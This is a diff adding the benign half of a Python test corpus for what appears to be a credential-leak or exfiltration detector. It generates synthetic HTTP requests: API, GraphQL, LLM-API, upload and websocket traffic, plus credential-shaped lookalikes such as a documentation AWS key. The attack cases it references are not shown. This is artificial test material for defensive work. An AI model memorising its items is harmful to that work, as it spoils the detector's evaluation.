+        headers=(JSON,), body=_json({"event_id": _rand(rng, 32, HEX), "trace": [{"file": "app.py", "line": 42,
+                                     "function": "handle_request"}], "release": f.sha()}))
+    add("api-json", "webhook registration with a public URL", method="POST", url="https://api.example.com/v1/hooks",
+        headers=(JSON,), body=_json({"url": "https://ci.example.org/hooks/build", "events": ["push", "pull_request"]}))
+
+    # -- GraphQL ---------------------------------------------------------------------------------
+    add("graphql", "GraphQL query with node ids", method="POST", url="https://api.github.com/graphql", headers=(JSON,),
+        body=_json({"query": "query($id: ID!) { node(id: $id) { ... on PullRequest { title commits(last: 5) "
+                    "{ nodes { commit { oid } } } } } }", "variables": {"id": "PR_kwDO" + _rand(rng, 16)}}))
+    add("graphql", "GraphQL mutation", method="POST", url="https://api.example.com/graphql", headers=(JSON,),
+        body=_json({"query": "mutation Update($input: UpdateInput!) { update(input: $input) { ok } }",
+                    "variables": {"input": {"id": f.uuid(), "title": "Rename the login form"}}}))
+    add("graphql", "persisted query by hash", url="https://api.example.com/graphql?extensions="
+        + quote(json.dumps({"persistedQuery": {"version": 1, "sha256Hash": f.sha256()}})) + "&variables=%7B%7D")
+
+    # -- LLM API calls ---------------------------------------------------------------------------
+    add("llm-api", "Anthropic messages call", method="POST", url="https://api.anthropic.com/v1/messages",
+        headers=(JSON, ("anthropic-version", "2023-06-01")),
+        body=_json({"model": "claude-sonnet-4", "max_tokens": 4096, "messages": [
+            {"role": "user", "content": "Refactor the auth module. The password check lives in auth/check.py "
+             "and the token refresh in auth/refresh.py; keep the secret rotation logic intact."},
+            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_" + _rand(rng, 24), "name": "read_file",
+                                              "input": {"path": "auth/check.py"}}]}]}))
+    add("llm-api", "tool result with source code", method="POST", url="https://api.anthropic.com/v1/messages",
+        headers=(JSON,), body=_json({"model": "claude-sonnet-4", "max_tokens": 1024, "messages": [
+            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_" + _rand(rng, 24),
+             "content": "def check(password: str) -> bool:\n    hashed = hash_password(password)\n"
+                        "    return hmac.compare_digest(hashed, stored_hash)\n"}]}]}))
+    add("llm-api", "OpenAI-style chat with a system prompt", method="POST", url="https://api.openai.com/v1/chat/completions",
+        headers=(JSON,), body=_json({"model": "gpt-4o", "messages": [{"role": "system", "content": "You are a code reviewer."},
+                                    {"role": "user", "content": f"Review commit {f.sha()} please."}], "temperature": 0.2}))
+    add("llm-api", "streaming request, gzip", method="POST", url="https://api.anthropic.com/v1/messages",
+        headers=(JSON, ("Content-Encoding", "gzip")),
+        body=gzip.compress(_json({"model": "claude-haiku", "stream": True, "messages": [{"role": "user", "content": "hi"}]})))
+    add("llm-api", "token counting", method="POST", url="https://api.anthropic.com/v1/messages/count_tokens",
+        headers=(JSON,), body=_json({"model": "claude-sonnet-4", "messages": [{"role": "user", "content": "count me"}]}))
+
+    # -- forms and uploads -----------------------------------------------------------------------
+    add("form", "search form", method="POST", url="https://docs.example.com/search", headers=(FORM,),
+        body=urlencode({"q": "how to rotate api keys", "page": "1", "lang": "en"}).encode())
+    add("form", "OAuth device flow start", method="POST", url="https://github.com/login/device/code", headers=(FORM,),
+        body=urlencode({"client_id": "Iv1." + _rand(rng, 16, HEX), "scope": "repo read:org"}).encode())
+    add("form", "newsletter form with CSRF token", method="POST", url="https://www.example.com/subscribe", headers=(FORM,),
+        body=urlencode({"email": "dev@example.com", "csrf_token": _rand(rng, 43, ALNUM + "-_")}).encode())
+    boundary = "----formdata-" + _rand(rng, 12)
+    mp = ("Content-Type", f"multipart/form-data; boundary={boundary}")
+    add("upload", "image upload", method="POST", url="https://uploads.example.com/v1/images", headers=(mp,),
+        body=_multipart([("file", "screenshot.png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(20000), {"Content-Type": "image/png"}),
+                         ("alt", None, b"Build dashboard", {})], boundary))
+    add("upload", "CSV upload", method="POST", url="https://uploads.example.com/v1/data", headers=(mp,),
+        body=_multipart([("file", "results.csv", ("id,sha,status\n" + "".join(f"{i},{f.sha()},ok\n" for i in range(50))).encode(),
+                          {"Content-Type": "text/csv"})], boundary))
+    add("upload", "tarball upload", method="PUT", url="https://artifacts.example.com/builds/123/dist.tar.gz",
+        headers=(("Content-Type", "application/gzip"),), body=gzip.compress(b"dist/app.js\0" + rng.randbytes(5000)))
+    add("upload", "binary upload", method="PUT", url=f"https://storage.example.com/b/{f.uuid()}",
+        headers=(("Content-Type", "application/octet-stream"),), body=rng.randbytes(50000))
+    add("upload", "log upload, brotli" if brotli is not None else "log upload", method="POST",
+        url="https://logs.example.com/v1/ingest", headers=(("Content-Type", "text/plain"),)
+        + ((("Content-Encoding", "br"),) if brotli is not None else ()),
+        body=(brotli.compress if brotli is not None else (lambda b: b))(
+            "".join(f"2024-05-01T12:00:{i:02d}Z INFO request id={f.uuid()} took {rng.randint(1, 900)}ms\n"
+                    for i in range(60)).encode()))
+
+    # -- hosts and misc ---------------------------------------------------------------------------
+    add("cdn-host", "CloudFront host with a hex label", url=f"https://d{_rand(rng, 13, HEX)}.cloudfront.net/static/app.js")
+    add("cdn-host", "S3 virtual-hosted bucket", url="https://my-build-artifacts-8472.s3.us-west-2.amazonaws.com/a.zip")
+    add("cdn-host", "hashed asset name", url=f"https://cdn.example.com/assets/main.{_rand(rng, 20, HEX)}.js",
+        headers=(ua, ("Accept", "*/*"), ("Referer", "https://app.example.com/")))
+    add("cdn-host", "long subdomain of a preview deploy", url=f"https://pr-1234-{_rand(rng, 8, HEX)}-org.preview.example.app/")
+    add("cdn-host", "font download", url="https://fonts.gstatic.com/s/inter/v13/UcCO3FwrK3iLTeHuS_fvQtMwCp50KnMw2boKoduKmMEVuLyfAZ9hiA.woff2",
+        headers=(ua,))
+    add("websocket", "LSP-style JSON-RPC message",
+        websocket=json.dumps({"jsonrpc": "2.0", "id": 7, "method": "textDocument/hover",
+                              "params": {"textDocument": {"uri": "file:///src/auth.py"}, "position": {"line": 10, "character": 4}}}))
+    add("websocket", "binary frame", websocket=rng.randbytes(2048))
+    add("websocket", "chat message about passwords", websocket=json.dumps({"text": "remember to rotate the DB password monthly"}))
+    # -- look-alikes: shapes near a credential format that are not credentials -----------------
+    lock = {"name": "app", "lockfileVersion": 3, "packages": {
+        f"node_modules/pkg-{i}": {"version": f"1.{i}.0", "resolved": f"https://registry.npmjs.org/pkg-{i}/-/pkg-{i}-1.{i}.0.tgz",
+                                  "integrity": f.integrity()} for i in range(30)}}
+    add("lookalike", "package-lock.json upload", method="PUT", url="https://api.example.com/v1/lockfiles/app",
+        headers=(JSON,), body=_json(lock))
+    add("lookalike", "requirements with hashes", method="POST", url="https://api.example.com/v1/deps",
+        headers=(("Content-Type", "text/plain"),),
+        body="".join(f"pkg{i}==1.{i}.0 --hash=sha256:{f.sha256()}\n" for i in range(20)).encode())
+    add("lookalike", "webhook signature header", method="POST", url="https://ci.example.org/hooks/build",
+        headers=(JSON, ("X-Hub-Signature-256", f"sha256={f.sha256()}"), ("X-GitHub-Delivery", f.uuid())),
+        body=_json({"ref": "refs/heads/main", "after": f.sha(), "before": f.sha()}))
+    add("lookalike", "AWS documentation example key", method="POST", url="https://api.example.com/v1/snippets",
+        headers=(JSON,), body=_json({"text": "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\nregion = us-east-1"}))
+    add("lookalike", "ids that start like OpenAI keys", url="https://api.example.com/v1/tasks?ids="
+        + ",".join(f"task-{_rand(rng, 24, HEX)}" for _ in range(5)) + "&risk-level=low")
+    add("lookalike", "Stripe publishable key and ids", method="POST", url="https://api.example.com/v1/checkout",
+        headers=(JSON,), body=_json({"publishable_key": "pk_live_" + _rand(rng, 24), "customer": "cus_" + _rand(rng, 14),
+                                     "price": "price_" + _rand(rng, 24)}))
+    add("lookalike", "Slack channel and user ids", method="POST", url="https://api.example.com/v1/notify", headers=(JSON,),
+        body=_json({"channel": "C0" + _rand(rng, 9, string.ascii_uppercase + string.digits),
+                    "user": "U0" + _rand(rng, 9, string.ascii_uppercase + string.digits), "text": "xoxo, the build bot"}))
+    add("lookalike", "protobuf body", method="POST", url="https://api.example.com/rpc/Service/Method",
+        headers=(("Content-Type", "application/x-protobuf"),), body=b"\x0a\x10" + rng.randbytes(16) + b"\x12\x40" + rng.randbytes(64))
+    add("lookalike", "empty and placeholder passwords in a form", method="POST", url="https://app.example.com/settings",
+        headers=(FORM,), body=urlencode({"password": "", "password_confirm": "", "api_key": "<unchanged>"}).encode())
+    add("lookalike", "OAuth token exchange without secrets", method="POST", url="https://oauth2.example.com/token",
+        headers=(FORM,), body=urlencode({"grant_type": "authorization_code", "code_verifier": "",
+                                         "redirect_uri": "http://localhost:8765/callback"}).encode())
+    add("lookalike", "base64 cursor that decodes to JSON", url="https://api.example.com/v1/items?after="
+        + base64.b64encode(json.dumps({"created_at": "2024-05-01T00:00:00Z", "id": f.uuid()}).encode()).decode())
+    add("lookalike", "minified JavaScript upload", method="PUT", url="https://cdn-upload.example.com/app.min.js",
+        headers=(("Content-Type", "application/javascript"),),
+        body=("!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};"
+              "return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t,n.d=function(e,t,r){"
+              "n.o(e,t)||Object.defineProperty(e,t,{enumerable:!0,get:r})};var token=e.token||\"\";"
+              "var passwordInput=document.getElementById(\"password\");}([]);" * 20).encode())
+    add("lookalike", "non-English text", method="POST", url="https://api.example.com/v1/translate", headers=(JSON,),
+        body=_json({"text": "パスワードを忘れた場合は、設定画面からリセットしてください。Пароль можно сменить в настройках.",
+                    "target": "en"}))
+    add("lookalike", "JWT-shaped header-only string", url="https://api.example.com/v1/parse?h="
+        + _b64url(b'{"typ":"JWT"}') + "&n=1")
+    add("lookalike", "Kubernetes-style resource names", method="POST", url="https://k8s.example.com/apis/apps/v1/deployments",
+        headers=(JSON,), body=_json({"metadata": {"name": "api-server-7d9f8b6c5d-x2x9k", "uid": f.uuid(),
+                                                  "resourceVersion": str(rng.randint(10**6, 10**7))},
+                                     "spec": {"template": {"spec": {"serviceAccountName": "api-server-sa",
+                                                                    "imagePullSecrets": [{"name": "regcred"}]}}}}))
+    add("api-json", "Docker registry token exchange", url="https://auth.docker.io/token?service=registry.docker.io&scope=repository%3Alibrary%2Fpython%3Apull")
+    add("api-json", "OCSP-like binary POST", method="POST", url="http://ocsp.example.com/",
+        headers=(("Content-Type", "application/ocsp-request"),), body=rng.randbytes(120))
+    return out
+
+
+def build_corpus(seed: int = 42) -> list[Case]:
+    rng = random.Random(seed)
+    return attacks(rng) + benign(rng)
